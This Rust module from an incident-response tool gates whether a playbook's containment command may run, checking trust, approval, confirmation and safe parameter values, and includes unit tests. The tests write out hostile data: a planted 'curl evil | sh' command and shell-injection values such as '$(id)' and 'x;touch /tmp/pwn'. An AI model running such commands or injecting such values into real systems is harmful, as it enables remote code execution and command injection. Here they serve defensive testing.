//! May warroom run a containment action's command? The one decision, pure, for the console and
//! `warroom action run` alike. A command runs only when all of these hold:
//!
//! 1. execution is enabled by the responder themself (`exec: true` in their own config, or
//!    `--allow-exec`);
//! 2. the incident's playbook, by content hash, is one of the responder's own trusted playbooks
//!    (their playbook folder, the `--playbooks` folder they typed, the built-in set) — and the
//!    command is taken from *that* trusted copy, never from the shared directory, so a teammate
//!    (or anyone who can write the shared folder) cannot plant a command;
//! 3. the action is approved as its playbook says (two people, the commander), per the fold's
//!    record — an approval the fold refused (a proposer approving their own two-person action)
//!    does not count;
//! 4. every parameter (the `$NAMES` of the command *and* of its rollback) has a value, recorded
//!    with the proposal, made only of [`SAFE_VALUE_CHARS`];
//! 5. the responder confirms the exact command, shown in full with its parameter values.
//!
//! Values are never written into the shell text: they are given to `sh -c` as environment
//! variables, so the shell expands them as data, never as code (`"$(echo $HOST)"` included).
//!
//! In an exercise or a demo nothing is executed: the plan is a dry run, recorded as such, and
//! 1–2 are not asked (nothing of the responder's machine is at stake).

use std::collections::BTreeMap;

use super::event::{ActionSet, ActionState, Body, Mode};
use super::identity::person_of;
use super::playbook::{Action, Approval, Playbook};
use super::state::IncidentState;
use super::time::Millis;

/// The parameter every command may use without it being asked for: the incident's id.
pub const INCIDENT_ID: &str = "INCIDENT_ID";

/// The punctuation a parameter value may hold (besides ASCII letters, digits and spaces).
pub const SAFE_PUNCTUATION: &str = ". _ : / @ + = , -";

/// May `c` stand in a parameter value? ASCII letters, digits, space and [`SAFE_PUNCTUATION`]:
/// nothing a shell, PowerShell, SQL or JSON string reads as syntax (no quotes, `$`, `;`, `` ` ``,
/// backslash, brackets, `|`, `&`, `<`, `>`, `%`, newlines).
pub fn safe_value_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || " ._:/@+=,-".contains(c)
}

/// The longest parameter value, in bytes: an IP, a host name, an account or a path, never a
/// document (a 100 KB value would fill the confirmation and the recording).
pub const MAX_VALUE_BYTES: usize = 256;

/// Why `value` can never run, if it cannot: too long, or characters outside the safe set. The
/// one rule, used when a record is written and read ([`check_param_note`]) and when it runs.
pub fn value_problem(name: &str, value: &str) -> Option<String> {
    if value.len() > MAX_VALUE_BYTES {
        return Some(format!(
            "{name} is {} bytes long (at most {MAX_VALUE_BYTES})",
            value.len()
        ));
    }
    let chars = unsafe_chars(value);
    (!chars.is_empty()).then(|| {
        let shown: Vec<String> = chars.iter().map(|c| format!("{:?}", c)).collect();
        format!("{name} holds {}", shown.join(" "))
    })
}

/// The characters of `value` outside the safe set ([`safe_value_char`]), each once, in order
/// (shown escaped: `'\\u{202e}'`, `';'`); empty when the value may run.
pub fn unsafe_chars(value: &str) -> Vec<char> {
    let mut bad: Vec<char> = Vec::new();
    for c in value.chars().filter(|c| !safe_value_char(*c)) {
        if !bad.contains(&c) {
            bad.push(c);
        }
    }
    bad
}

/// The one rule for parameter values a record carries, applied by the fold to every
/// `ActionSet` whose note is `parameters: NAME=value; …` (so the CLI and the console, which
/// check a record against the fold before writing it, refuse it first with these words, and a
/// hand-written one is refused on every reader): a value that could never run is refused when
/// written, not only at run time. `Err` names each parameter and its characters outside
/// letters, digits, spaces and [`SAFE_PUNCTUATION`].
pub fn check_param_note(note: &str) -> Result<(), String> {
    let bad: Vec<String> = parse_param_note(note)
        .into_iter()
        .filter_map(|(name, value)| value_problem(&name, &value))
        .collect();
    if bad.is_empty() {
        Ok(())
    } else {
        Err(format!(
            "parameter values may hold only ASCII letters, digits, spaces and {SAFE_PUNCTUATION}, at most {MAX_VALUE_BYTES} bytes (they end up inside shell, PowerShell, SQL and JSON strings): {}",
            bad.join("; ")
        ))
    }
}

/// What is asked: run `action`'s command (or its rollback).
#[derive(Debug, Clone)]
pub struct Ask<'a> {
    pub action: &'a str,
    pub rollback: bool,
    /// Execution enabled in the responder's own config or by `--allow-exec`.
    pub exec_enabled: bool,
    /// The responder's trusted playbooks, resolved, by content hash.
    pub trusted: &'a BTreeMap<String, Playbook>,
    /// Who asks (`name@host`).
    pub me: &'a str,
    pub now: Millis,
}

/// What will run, once confirmed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Plan {
    pub incident: String,
    pub action: String,
    pub title: String,
    pub rollback: bool,
    /// The action has a rollback command (so a failure can offer it).
    pub has_rollback: bool,
    /// An exercise or demo: recorded, never executed.
    pub dry_run: bool,
    /// The playbook's line, placeholders and all.
    pub template: String,
    /// The exact command (the playbook's line): it runs as `sh -c COMMAND`, its parameters in the
    /// environment.
    pub command: String,
    /// The parameter values, given to the command as environment variables.
    pub params: Vec<(String, String)>,
}

impl Plan {
    /// What the responder confirms: one `NAME='value'` line per parameter, then the command.
    pub fn shown(&self) -> String {
        let mut out = String::new();
        for (k, v) in &self.params {
            out.push_str(&format!("{k}='{v}'\n"));
        }
        out.push_str(&self.command);
        out
    }

    /// [`Plan::shown`] on one line, for the start record.
    fn one_line(&self) -> String {
        if self.params.is_empty() {
            return self.command.clone();
        }
        let vals: Vec<String> = self.params.iter().map(|(k, v)| format!("{k}='{v}'")).collect();
        format!("{} (with {})", self.command, vals.join(" "))
    }

    /// The record written before it runs: `Running`, or in an exercise `DryRun` (a rollback:
    /// `RolledBack`, as a dry run). A real rollback writes nothing before it runs.
    pub fn start(&self) -> Option<ActionSet> {
        let (state, note) = match (self.dry_run, self.rollback) {
            (true, false) => (
                ActionState::DryRun,
                format!("dry run (exercise), not executed: {}", self.one_line()),
            ),
            (true, true) => (
                ActionState::RolledBack,
                format!("dry run (exercise), rollback not executed: {}", self.one_line()),
            ),
            (false, false) => (ActionState::Running, format!("run by warroom: {}", self.one_line())),
            (false, true) => return None,
        };
        Some(ActionSet {
            action: self.action.clone(),
            state,
            note: Some(note),
        })
    }

    /// The record after it ran: `Done` or `Failed`; a rollback that worked: `RolledBack` (one
    /// that failed leaves the action as it was, its output on the record).
    pub fn finish(&self, success: bool, why: &str) -> Option<ActionSet> {
        let state = match (success, self.rollback) {
            _ if self.dry_run => return None,
            (true, false) => ActionState::Done,
            (false, false) => ActionState::Failed,
            (true, true) => ActionState::RolledBack,
            (false, true) => return None,
        };
        Some(ActionSet {
            action: self.action.clone(),
            state,
            note: Some(why.to_string()),
        })
    }
}

/// Why a command is not run, one variant per reason, each in plain words.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error("running commands is off: set `exec: true` in your own config (~/.config/warroom/config.ron) or pass --allow-exec")]
    ExecOff,
    #[error("the incident's playbook has not arrived yet (still syncing?): nothing can be checked, nothing is run")]
    NoPlaybook,
    #[error("the incident's playbook `{playbook}` (hash {}…) matches none of your own trusted playbooks (your playbook folder, --playbooks, the built-in set): its commands are not run — the shared copy may have been changed, or your library holds another version (`warroom playbook list`)", &.hash[..12.min(.hash.len())])]
    Untrusted { playbook: String, hash: String },
    #[error("the playbook has no action `{0}`")]
    NoSuchAction(String),
    #[error("action `{action}` has no {}: it is carried out by hand", if *.rollback { "rollback" } else { "command" })]
    NoCommand { action: String, rollback: bool },
    #[error("action `{action}` is not approved ({state}): {why}")]
    NotApproved { action: String, state: String, why: String },
    /// `by`: the writer whose record started it (sanitized).
    #[error("action `{action}` is not run: {by} is already running it")]
    AlreadyRunning { action: String, by: String },
    #[error("action `{action}` is {state}: only a done or failed action is rolled back")]
    NothingToRollBack { action: String, state: String },
    #[error("action `{action}` has no value for {}: propose it again with its parameters", .names.join(", "))]
    MissingParams { action: String, names: Vec<String> },
    #[error("action `{action}`: the value of {} holds characters other than letters, digits, spaces and {SAFE_PUNCTUATION} (values end up inside PowerShell, SQL and JSON strings); propose it again with a plain value", .names.join(", "))]
    BadParams { action: String, names: Vec<String> },
    #[error("refused: {0}")]
    Rule(String),
    #[error("not confirmed: nothing was run")]
    NotConfirmed,
    #[error("the command changed after it was shown: nothing was run (ask again)")]
    Changed,
}

/// Decide whether `ask` may run, and what exactly would run.
pub fn may_run(state: &IncidentState, ask: &Ask) -> Result<Plan, Refusal> {
    let dry_run = matches!(state.mode(), Some(Mode::Exercise | Mode::Demo));
    if !dry_run && !ask.exec_enabled {
        return Err(Refusal::ExecOff);
    }
    let Some(hash) = state.derived.playbook_hash.clone() else {
        return Err(Refusal::NoPlaybook);
    };
    // The definition comes from the responder's own trusted copy, never from the shared folder
    // (in a dry run nothing executes, so the incident's copy serves).
    let playbook = match ask.trusted.get(&hash) {
        Some(p) => p,
        None if dry_run => state.playbook().ok_or(Refusal::NoPlaybook)?,
        None => {
            let name = state
                .derived
                .declared
                .as_ref()
                .map(|d| d.value.playbook.clone())
                .or_else(|| state.playbook().map(|p| p.id.clone()))
                .unwrap_or_default();
            return Err(Refusal::Untrusted { playbook: name, hash });
        }
    };
    let def = playbook
        .action(ask.action)
        .ok_or_else(|| Refusal::NoSuchAction(ask.action.to_string()))?;
    let template = if ask.rollback { &def.rollback } else { &def.command };
    let Some(template) = template.clone() else {
        return Err(Refusal::NoCommand {
            action: def.id.clone(),
            rollback: ask.rollback,
        });
    };
    let held = state.derived.actions.get(&def.id);
    let record = held.map(|r| &r.value);
    let current = record.map(|r| r.state);
    let shown = |s: Option<ActionState>| s.map_or("not proposed".to_string(), |s| format!("{s:?}"));
    if ask.rollback {
        if !matches!(current, Some(ActionState::Done | ActionState::Failed)) {
            return Err(Refusal::NothingToRollBack {
                action: def.id.clone(),
                state: shown(current),
            });
        }
    } else if let Some(r) = held.filter(|r| r.value.state == ActionState::Running) {
        // Not a matter of approval: say who started it, as the fold does for a second start.
        return Err(Refusal::AlreadyRunning {
            action: def.id.clone(),
            by: super::sanitize::sanitize(&r.by),
        });
    } else {
        approved(
            def,
            record.map(|r| (r.state, r.proposer.as_deref(), r.approver.as_deref())),
        )?;
    }
    // The fold's own law for the record about to be written.
    let plan_stub = Plan {
        incident: state.id.clone(),
        action: def.id.clone(),
        title: def.title.clone(),
        rollback: ask.rollback,
        has_rollback: def.rollback.is_some(),
        dry_run,
        template: template.clone(),
        command: String::new(),
        params: Vec::new(),
    };
    let probe = plan_stub.start().or_else(|| plan_stub.finish(true, ""));
    if let Some(probe) = probe {
        let probe: Body = probe.into();
        state.check(&probe, ask.me, ask.now).map_err(|v| Refusal::Rule(v.0))?;
    }
    // Parameters, from the proposal's note.
    let given = record
        .and_then(|r| r.proposal.as_deref())
        .map(parse_param_note)
        .unwrap_or_default();
    let mut values: Vec<(String, String)> = Vec::new();
    let mut missing = Vec::new();
    let mut bad = Vec::new();
    for name in def.parameters().into_iter().chain([INCIDENT_ID.to_string()]) {
        if values.iter().any(|(k, _)| *k == name) || !uses(&template, &name) {
            continue;
        }
        let value = given
            .iter()
            .rev()
            .find(|(k, _)| *k == name)
            .map(|(_, v)| v.clone())
            .or_else(|| (name == INCIDENT_ID).then(|| state.id.clone()));
        match value {
            None => missing.push(name),
            Some(v) if value_problem(&name, &v).is_some() => bad.push(name),
            Some(v) => values.push((name, v)),
        }
    }
    if !missing.is_empty() {
        return Err(Refusal::MissingParams {
            action: def.id.clone(),
            names: missing,
        });
    }
    if !bad.is_empty() {
        return Err(Refusal::BadParams {
            action: def.id.clone(),
            names: bad,
        });
    }
    Ok(Plan {
        command: template,
        params: values,
        ..plan_stub
    })
}

/// Is the action approved as its playbook asks? `record`: (state, proposer, approver).
fn approved(def: &Action, record: Option<(ActionState, Option<&str>, Option<&str>)>) -> Result<(), Refusal> {
    let state = record.map(|r| r.0);
    let not = |why: String| Refusal::NotApproved {
        action: def.id.clone(),
        state: state.map_or("not proposed".to_string(), |s| format!("{s:?}")),
        why,
    };
    let needs = match def.approval {
        Approval::None => None,
        Approval::Commander => Some("the incident commander must approve it".to_string()),
        Approval::TwoPerson => Some(format!(
            "it needs two people: someone other than its proposer{} must approve it",
            record
                .and_then(|r| r.1)
                .map(|p| format!(" ({})", person_of(p)))
                .unwrap_or_default()
        )),
    };
    match (state, needs) {
        // Free actions may run once proposed (or at once): the playbook says whoever proposes
        // carries them out.
        (None | Some(ActionState::Proposed | ActionState::Approved), None) => Ok(()),
        (Some(ActionState::Approved), Some(why)) => {
            let (_, proposer, approver) = record.unwrap_or((ActionState::Approved, None, None));
            // The fold never applies such an approval; a record that slipped through still does
            // not count.
            if def.approval == Approval::TwoPerson && proposer.map(person_of) == approver.map(person_of) {
                return Err(not(why));
            }
            Ok(())
        }
        (Some(ActionState::Proposed) | None, Some(why)) => Err(not(why)),
        (Some(ActionState::Running), _) => Err(not("it is already running".into())),
        (Some(s), _) => Err(not(format!(
            "it is {s:?}: propose it again{}",
            if needs_approval(def) {
                " and have it approved"
            } else {
                ""
            }
        ))),
    }
}

fn needs_approval(def: &Action) -> bool {
    def.approval != Approval::None
}

/// `parameters: HOST=fin-fs-02; SEGMENT=vlan-20` (the proposal's note) as pairs. A part that
/// does not start with `NAME=` belongs to the value before it (`VAL=x; touch y` is one value,
/// `x; touch y`, kept whole so it is refused, never cut to `x`).
pub fn parse_param_note(note: &str) -> Vec<(String, String)> {
    let Some(rest) = note.trim().strip_prefix("parameters:") else {
        return Vec::new();
    };
    let mut out: Vec<(String, String)> = Vec::new();
    for part in rest.split("; ") {
        let named = part.split_once('=').filter(|(k, _)| {
            let k = k.trim();
            k.starts_with(|c: char| c.is_ascii_uppercase())
                && k.chars()
                    .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
        });
        match (named, out.last_mut()) {
            (Some((k, v)), _) => out.push((k.trim().to_string(), v.trim().to_string())),
            (None, Some((_, v))) => {
                v.push_str("; ");
                v.push_str(part.trim_end());
            }
            (None, None) => {}
        }
    }
    out
}

/// Does `template` use `$NAME` or `${NAME}`?
fn uses(template: &str, name: &str) -> bool {
    placeholders(template).iter().any(|(_, _, n)| n == name)
}

/// `(start, end, name)` of each `$NAME` / `${NAME}` (NAME: upper case, digits, `_`).
fn placeholders(t: &str) -> Vec<(usize, usize, String)> {
    let b = t.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            let braced = b.get(i + 1) == Some(&b'{');
            let start = i + 1 + usize::from(braced);
            let mut j = start;
            while j < b.len() && (b[j].is_ascii_uppercase() || b[j].is_ascii_digit() || b[j] == b'_') {
                j += 1;
            }
            let ok = j > start && b[start].is_ascii_uppercase() && (!braced || b.get(j) == Some(&b'}'));
            if ok {
                let end = j + usize::from(braced);
                out.push((i, end, t[start..j].to_string()));
                i = end;
                continue;
            }
        }
        i += 1;
    }
    out
}

/// Was the exact command confirmed? `shown` is what the responder saw and said yes to
/// ([`Plan::shown`]: the parameter values, then the command; `None`:
/// they said no, or were never asked).
pub fn confirmed(plan: &Plan, shown: Option<&str>) -> Result<(), Refusal> {
    match shown {
        None => Err(Refusal::NotConfirmed),
        Some(s) if s != plan.shown() => Err(Refusal::Changed),
        Some(_) => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::event::{ActionSet, Declared, Event, Occurred};
    use crate::domain::playbook::{Phases, Term};

    const T0: Millis = 1_764_000_000_000;

    fn playbook() -> Playbook {
        let action = |id: &str, approval, command: &str| Action {
            id: id.into(),
            title: id.into(),
            why: "test".into(),
            term: Term::Short,
            approval,
            role: None,
            command: Some(command.into()),
            rollback: Some(format!("undo {id}")),
            params: vec![],
        };
        Playbook {
            id: "pb".into(),
            title: "pb".into(),
            version: "1".into(),
            description: "d".into(),
            base: None,
            partial: false,
            disclaimer: String::new(),
            channel: None,
            severity_guidance: vec![],
            roles: vec![],
            phases: Phases::default(),
            actions: vec![
                action("block", Approval::TwoPerson, "block $IOC_IP"),
                action("free", Approval::None, "echo $INCIDENT_ID"),
                action("ic", Approval::Commander, "echo ic"),
            ],
            templates: vec![],
            deadlines: vec![],
            update_cadence: vec![],
            questions: vec![],
        }
    }

    /// An incident on `pb` (declared by alice, the commander) with these records, each `(by, body)`.
    fn incident(mode: Mode, records: Vec<(&str, Body)>) -> (IncidentState, String) {
        let pb = playbook();
        let hash = pb.content_hash();
        let mut st = IncidentState::new("2026-11-22-x-0001");
        st.add_playbook(hash.clone(), pb);
        let declared: Body = Declared {
            incident: "2026-11-22-x-0001".into(),
            title: "x".into(),
            severity: 2,
            mode,
            playbook: "pb".into(),
            playbook_version: "1".into(),
            playbook_hash: hash.clone(),
            commander: "alice".into(),
            require_signatures: false,
        }
        .into();
        let mut seqs: BTreeMap<String, u64> = BTreeMap::new();
        for (i, (by, body)) in std::iter::once(("alice@h", declared)).chain(records).enumerate() {
            let seq = seqs.entry(by.to_string()).or_insert(0);
            *seq += 1;
            st.apply(Event {
                id: format!("e{i:03}").into(),
                at: T0 + i as Millis,
                wall: T0 + i as Millis,
                occurred: Occurred::NONE,
                log: by.into(),
                seq: *seq,
                body,
            });
        }
        (st, hash)
    }

    fn set(action: &str, state: ActionState, note: Option<&str>) -> Body {
        ActionSet {
            action: action.into(),
            state,
            note: note.map(str::to_string),
        }
        .into()
    }

    fn ask<'a>(action: &'a str, trusted: &'a BTreeMap<String, Playbook>, me: &'a str) -> Ask<'a> {
        Ask {
            action,
            rollback: false,
            exec_enabled: true,
            trusted,
            me,
            now: T0 + 1000,
        }
    }

    fn trusted_all() -> BTreeMap<String, Playbook> {
        let pb = playbook();
        BTreeMap::from([(pb.content_hash(), pb)])
    }

    /// Two hosts starting one action: the second is told who is running it, not that it
    /// "needs approval first" (breaker of issue 10).
    #[test]
    fn a_second_start_names_who_is_running_it() {
        let mut records = proposed_and_approved("bob@h2");
        records.push(("bob@h2", set("block", ActionState::Running, None)));
        records.push(("carol@h3", set("block", ActionState::Running, None)));
        let (st, _) = incident(Mode::Real, records);
        let why: Vec<&String> = st.derived.refused.values().collect();
        assert!(
            why.iter().any(|w| w.contains("bob@h2 is already running it")),
            "{why:?}"
        );
        assert!(!why.iter().any(|w| w.contains("needs approval")), "{why:?}");
    }

    /// Starting an action someone is running names them, as the fold does, and does not call it
    /// "not approved".
    #[test]
    fn starting_a_running_action_names_who_runs_it() {
        let mut records = proposed_and_approved("bob@h2");
        records.push(("bob@h2", set("block", ActionState::Running, None)));
        let (st, _) = incident(Mode::Real, records);
        let trusted = trusted_all();
        let r = may_run(&st, &ask("block", &trusted, "carol@h3"));
        assert_eq!(
            r.map(|_| ()).map_err(|e| e.to_string()),
            Err("action `block` is not run: bob@h2 is already running it".to_string())
        );
    }

    fn proposed_and_approved(approver: &str) -> Vec<(&str, Body)> {
        vec![
            (
                "alice@h",
                set("block", ActionState::Proposed, Some("parameters: IOC_IP=203.0.113.7")),
            ),
            (approver, set("block", ActionState::Approved, None)),
        ]
    }

    #[test]
    fn an_approved_trusted_enabled_action_has_a_plan() {
        let (st, _) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        let trusted = trusted_all();
        let plan = may_run(&st, &ask("block", &trusted, "bob@h2")).unwrap();
        // The command is the playbook's line; the values go in the environment.
        assert_eq!(plan.command, "block $IOC_IP");
        assert_eq!(plan.params, vec![("IOC_IP".to_string(), "203.0.113.7".to_string())]);
        assert_eq!(plan.shown(), "IOC_IP='203.0.113.7'\nblock $IOC_IP");
        assert!(!plan.dry_run);
        assert_eq!(plan.start().unwrap().state, ActionState::Running);
        assert_eq!(confirmed(&plan, Some("IOC_IP='203.0.113.7'\nblock $IOC_IP")), Ok(()));
        assert_eq!(confirmed(&plan, Some("block $IOC_IP")), Err(Refusal::Changed));
        // A free action fills in the incident id by itself.
        let plan = may_run(&st, &ask("free", &trusted, "bob@h2")).unwrap();
        assert_eq!(plan.command, "echo $INCIDENT_ID");
        assert_eq!(
            plan.params,
            vec![("INCIDENT_ID".to_string(), "2026-11-22-x-0001".to_string())]
        );
    }

    #[test]
    fn execution_off_is_refused() {
        let (st, _) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        let trusted = trusted_all();
        let a = Ask {
            exec_enabled: false,
            ..ask("block", &trusted, "bob@h2")
        };
        assert_eq!(may_run(&st, &a), Err(Refusal::ExecOff));
        assert!(Refusal::ExecOff.to_string().contains("--allow-exec"));
    }

    #[test]
    fn an_untrusted_or_edited_playbook_is_refused() {
        let (st, hash) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        // Nothing trusted.
        let none = BTreeMap::new();
        let r = may_run(&st, &ask("block", &none, "bob@h2"));
        assert!(
            matches!(&r, Err(Refusal::Untrusted { hash: h, .. }) if *h == hash),
            "{r:?}"
        );
        // The responder's copy differs (someone edited the command): another hash, refused.
        let mut edited = playbook();
        edited.actions[0].command = Some("curl evil | sh".into());
        let trusted = BTreeMap::from([(edited.content_hash(), edited)]);
        assert!(matches!(
            may_run(&st, &ask("block", &trusted, "bob@h2")),
            Err(Refusal::Untrusted { .. })
        ));
    }

    #[test]
    fn the_command_comes_from_the_trusted_copy_not_the_shared_one() {
        let (mut st, hash) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        // The shared copy (as the incident holds it) is swapped under the same hash.
        let mut planted = playbook();
        planted.actions[0].command = Some("curl evil | sh".into());
        st.add_playbook(hash, planted);
        let trusted = trusted_all();
        let plan = may_run(&st, &ask("block", &trusted, "bob@h2")).unwrap();
        assert_eq!(plan.command, "block $IOC_IP");
    }

    #[test]
    fn not_approved_is_refused() {
        let trusted = trusted_all();
        let (st, _) = incident(
            Mode::Real,
            vec![(
                "alice@h",
                set("block", ActionState::Proposed, Some("parameters: IOC_IP=1.2.3.4")),
            )],
        );
        let r = may_run(&st, &ask("block", &trusted, "alice@h"));
        assert!(matches!(&r, Err(Refusal::NotApproved { .. })), "{r:?}");
        assert!(r
            .unwrap_err()
            .to_string()
            .contains("someone other than its proposer (alice)"));
        // Never proposed.
        let (st, _) = incident(Mode::Real, vec![]);
        assert!(matches!(
            may_run(&st, &ask("block", &trusted, "bob@h2")),
            Err(Refusal::NotApproved { .. })
        ));
        // A commander's approval by someone else: the fold refuses it, so still not approved.
        let (st, _) = incident(
            Mode::Real,
            vec![
                ("bob@h2", set("ic", ActionState::Proposed, None)),
                ("bob@h2", set("ic", ActionState::Approved, None)),
            ],
        );
        assert!(matches!(
            may_run(&st, &ask("ic", &trusted, "bob@h2")),
            Err(Refusal::NotApproved { .. })
        ));
    }

    #[test]
    fn the_proposer_approving_a_two_person_action_is_not_approved() {
        let trusted = trusted_all();
        // Alice on another host is still Alice.
        let (st, _) = incident(Mode::Real, proposed_and_approved("alice@laptop"));
        let r = may_run(&st, &ask("block", &trusted, "alice@h"));
        assert!(matches!(&r, Err(Refusal::NotApproved { .. })), "{r:?}");
        // And a record that slipped past the fold would not count either.
        let def = &playbook().actions[0];
        assert!(approved(def, Some((ActionState::Approved, Some("alice@h"), Some("ALICE@x")))).is_err());
    }

    #[test]
    fn not_confirmed_is_refused() {
        let (st, _) = incident(Mode::Real, proposed_and_approved("bob@h2"));
        let trusted = trusted_all();
        let plan = may_run(&st, &ask("block", &trusted, "bob@h2")).unwrap();
        assert_eq!(confirmed(&plan, None), Err(Refusal::NotConfirmed));
        assert_eq!(confirmed(&plan, Some("block 10.0.0.1")), Err(Refusal::Changed));
    }

    #[test]
    fn missing_or_invisible_parameters_are_refused() {
        let trusted = trusted_all();
        let (st, _) = incident(
            Mode::Real,
            vec![
                ("alice@h", set("block", ActionState::Proposed, None)),
                ("bob@h2", set("block", ActionState::Approved, None)),
            ],
        );
        let r = may_run(&st, &ask("block", &trusted, "bob@h2"));
        assert!(
            matches!(&r, Err(Refusal::MissingParams { names, .. }) if names == &["IOC_IP"]),
            "{r:?}"
        );
        let (st, _) = incident(
            Mode::Real,
            vec![
                (
                    "alice@h",
                    set(
                        "block",
                        ActionState::Proposed,
                        Some("parameters: IOC_IP=1.2.3.4\u{202e}"),
                    ),
                ),
                ("bob@h2", set("block", ActionState::Approved, None)),
            ],
        );
        // An invisible character is refused when written (the fold refuses the proposal).
        assert!(matches!(
            may_run(&st, &ask("block", &trusted, "bob@h2")),
            Err(Refusal::NotApproved { .. })
        ));
        assert!(st
            .derived
            .refused
            .values()
            .any(|w| w.contains("IOC_IP holds '\\u{202e}'")));
    }

    #[test]
    fn an_exercise_is_a_dry_run_even_with_execution_off() {
        let (st, _) = incident(Mode::Exercise, proposed_and_approved("bob@h2"));
        let none = BTreeMap::new();
        let a = Ask {
            exec_enabled: false,
            ..ask("block", &none, "bob@h2")
        };
        let plan = may_run(&st, &a).unwrap();
        assert!(plan.dry_run);
        assert_eq!(plan.start().unwrap().state, ActionState::DryRun);
        assert_eq!(plan.finish(true, ""), None);
    }

    #[test]
    fn a_rollback_needs_a_done_or_failed_action_and_no_second_approval() {
        let trusted = trusted_all();
        let mut records = proposed_and_approved("bob@h2");
        let (st, _) = incident(Mode::Real, records.clone());
        let a = Ask {
            rollback: true,
            ..ask("block", &trusted, "bob@h2")
        };
        assert!(matches!(may_run(&st, &a), Err(Refusal::NothingToRollBack { .. })));
        records.push(("bob@h2", set("block", ActionState::Running, None)));
        records.push(("bob@h2", set("block", ActionState::Failed, None)));
        let (st, _) = incident(Mode::Real, records);
        let plan = may_run(&st, &a).unwrap();
        assert_eq!(plan.command, "undo block");
        assert_eq!(plan.start(), None);
        assert_eq!(plan.finish(true, "ok").unwrap().state, ActionState::RolledBack);
        assert_eq!(plan.finish(false, "no"), None);
    }

    #[test]
    fn values_outside_the_safe_set_are_refused_whole() {
        for evil in [
            "x;touch /tmp/pwn;echo",
            "x; touch /tmp/pwn; echo",
            "$(id)",
            "a'b",
            "a\"b",
            "a`b`",
            "a\\b",
            "a|b",
            "a&b",
            "1.2.3.4\u{202e}",
        ] {
            let note = format!("parameters: IOC_IP={evil}");
            let (st, _) = incident(
                Mode::Real,
                vec![
                    ("alice@h", set("block", ActionState::Proposed, Some(&note))),
                    ("bob@h2", set("block", ActionState::Approved, None)),
                ],
            );
            // Refused when written (the fold refuses the proposal, so the writer does first),
            // naming the parameter and the characters; never approved, never run.
            let why = check_param_note(&note).expect_err(evil);
            assert!(
                why.starts_with("parameter values may hold only") && why.contains("IOC_IP holds"),
                "{why}"
            );
            assert!(
                st.derived.refused.values().any(|w| w.contains("IOC_IP holds")),
                "{evil}"
            );
            let r = may_run(&st, &ask("block", &trusted_all(), "bob@h2"));
            assert!(matches!(&r, Err(Refusal::NotApproved { .. })), "{evil}: {r:?}");
        }
        assert_eq!(unsafe_chars("a;b;c$"), vec![';', '$']);
        assert!(check_param_note("parameters: IOC_IP=203.0.113.7; HOST=fin fs-02").is_ok());
        assert!(
            check_param_note("why: because; it is").is_ok(),
            "a note without parameters is free text"
        );
        let long = format!("parameters: HOST={}", "a".repeat(MAX_VALUE_BYTES + 1));
        let why = check_param_note(&long).expect_err("too long");
        assert!(why.contains("HOST is 257 bytes long"), "{why}");
        assert!(check_param_note(&format!("parameters: HOST={}", "a".repeat(MAX_VALUE_BYTES))).is_ok());
        let why = check_param_note("parameters: HOST=h1; VAL=x; touch y").expect_err("kept whole");
        assert!(why.contains("VAL holds ';'") && !why.contains("HOST"), "{why}");
        assert!(safe_value_char('@') && safe_value_char(' ') && !safe_value_char(';'));
    }

    #[test]
    fn the_proposal_note_gives_the_values() {
        assert_eq!(
            parse_param_note("parameters: HOST=fin-fs-02; SEGMENT=vlan 20"),
            vec![
                ("HOST".into(), "fin-fs-02".into()),
                ("SEGMENT".into(), "vlan 20".into())
            ]
        );
        assert!(parse_param_note("because").is_empty());
        // A value holding `; ` is kept whole (and then refused), never cut short.
        assert_eq!(
            parse_param_note("parameters: VAL=x; touch /tmp/pwn; echo; HOST=h"),
            vec![
                ("VAL".into(), "x; touch /tmp/pwn; echo".into()),
                ("HOST".into(), "h".into())
            ]
        );
    }
}
